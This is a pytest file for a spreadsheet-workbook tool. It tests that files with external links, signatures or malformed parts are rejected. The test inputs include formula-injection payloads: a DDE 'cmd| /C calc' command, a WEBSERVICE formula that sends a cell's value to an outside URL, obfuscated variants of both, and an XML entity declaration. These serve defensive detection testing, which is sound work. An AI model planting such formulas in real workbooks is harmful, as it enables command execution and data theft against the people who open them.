"""A file that reaches outside, is signed, or is not built as it should be does not go back as it is."""

from __future__ import annotations

import struct
from collections.abc import Callable

import pytest

from reports.workbook.package.archive import Archive, CannotExtend
from spreadsheet import changed, packed, parts

Returned = Callable[..., bytes]
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SIGNATURE = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"


@pytest.fixture
def form(case: Callable[[str], bytes]) -> bytes:
    return case("seal_form.xlsx")


def code(returned: Returned, content: bytes) -> str:
    with pytest.raises(CannotExtend) as raised:
        returned(content, "E12", sheet="卫生健康主要服务指标月报")
    return raised.value.code


def related(content: bytes, name: str, kind: str, target: str, mode: str = "") -> bytes:
    held, told = parts(content), f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return packed({**held, name: held[name].replace(b"</Relationships>", told.encode())})


@pytest.mark.parametrize("kind", ["externalLink", "connections"])
def test_other_books_and_databases(form: bytes, returned: Returned, kind: str) -> None:
    assert code(returned, related(form, "xl/_rels/workbook.xml.rels", f"{RELATION}/{kind}", "x.xml")) == "outside"


def test_a_picture_that_is_fetched_when_the_file_is_opened(form: bytes, returned: Returned) -> None:
    name, mode = "xl/drawings/_rels/drawing1.xml.rels", ' TargetMode="External"'
    assert code(returned, related(form, name, f"{RELATION}/image", "http://example.org/a.png", mode)) == "outside"


def test_a_link_that_waits_for_a_click_is_harmless(form: bytes, returned: Returned) -> None:
    name, mode = "xl/worksheets/_rels/sheet1.xml.rels", ' TargetMode="External"'
    assert returned(related(form, name, f"{RELATION}/hyperlink", "http://example.org/", mode), "E12")


@pytest.mark.parametrize(
    "formula",
    [
        "WEBSERVICE(&quot;http://example.org/&quot;&amp;A1)",
        "_xlfn.WEBSERVICE(A1)",
        "WEB&#83;ERVICE(A1)",
        "WEB<!-- -->SERVICE(A1)",
        "cmd|&apos; /C calc&apos;!A0",
        "[1]Sheet1!$A$1",
        "&apos;[2]表 一&apos;!A1",
        "RTD(&quot;a&quot;,,&quot;b&quot;)",
    ],
)
def test_formulas_that_fetch_from_elsewhere(form: bytes, returned: Returned, formula: str) -> None:
    assert code(returned, changed(form, sheet1=("<f>F11/G11*100</f>", f"<f>{formula}</f>"))) == "outside"


@pytest.mark.parametrize(
    "formula", ["IF(A1=&quot;a|b [1]&quot;,1,2)", "SUM(Table1[1])", "MYWEBSERVICES(1)", "'a|b'!A1"]
)
def test_formulas_that_only_look_so_stay(form: bytes, returned: Returned, formula: str) -> None:
    assert returned(changed(form, sheet1=("<f>F11/G11*100</f>", f"<f>{formula}</f>")), "E12")


def test_a_reference_to_a_book_that_is_not_there_and_that_nothing_needs_is_left_out(
    case: Callable[[str], bytes], returned: Returned
) -> None:
    assert b"externalReference" in parts(case("ret_ext_link.xlsx"))["xl/workbook.xml"]
    assert b"externalReference" not in parts(returned(case("ret_ext_link.xlsx"), "E12"))["xl/workbook.xml"]


def test_a_signature_that_a_mark_would_break(form: bytes, returned: Returned) -> None:
    assert code(returned, related(form, "_rels/.rels", SIGNATURE, "_xmlsignatures/origin.sigs")) == "signed"


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("sheet1", '<row r="9"', '<row r="8"'),
        ("sheet1", '<c r="B12"', '<c r="Z12"'),
        ("sheet1", "<worksheet", "<!DOCTYPE a [<!ENTITY b 'c'>]><worksheet"),
        ("styles", "<fills", "<nofills"),
        ("workbook", "<sheets>", "<sheets><"),
    ],
)
def test_parts_that_are_not_built_as_they_should_be(
    form: bytes, returned: Returned, part: str, old: str, new: str
) -> None:
    broken = {part: (old, new)}
    if new == "<nofills":
        form = changed(form, styles=("</fills>", "</nofills>"))
    if "DOCTYPE" in new:
        form = changed(form, sheet1=('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', ""))
    assert code(returned, changed(form, **broken)) == "odd_package"


def test_archives_that_cannot_be_copied(form: bytes) -> None:
    encrypted = bytearray(form)
    where = form.index(b"PK\x01\x02")
    struct.pack_into("<H", encrypted, where + 8, 1)
    twice = packed({**parts(form), "XL/WORKBOOK.XML": b""})
    for content in (bytes(encrypted), twice, b"PK\x03\x04nothing", b"", form[:4000]):
        with pytest.raises(CannotExtend):
            Archive(content)


def test_a_workbook_of_another_kind_is_said_to_be_none(returned: Returned) -> None:
    assert code(returned, packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})) == "not_a_package"


def test_a_checksum_that_lies_is_no_copy(form: bytes, returned: Returned) -> None:
    where, broken = form.index(b"xl/worksheets/sheet1.xml") + 60, bytearray(form)
    broken[where] ^= 0xFF
    assert code(returned, bytes(broken)) == "odd_package"
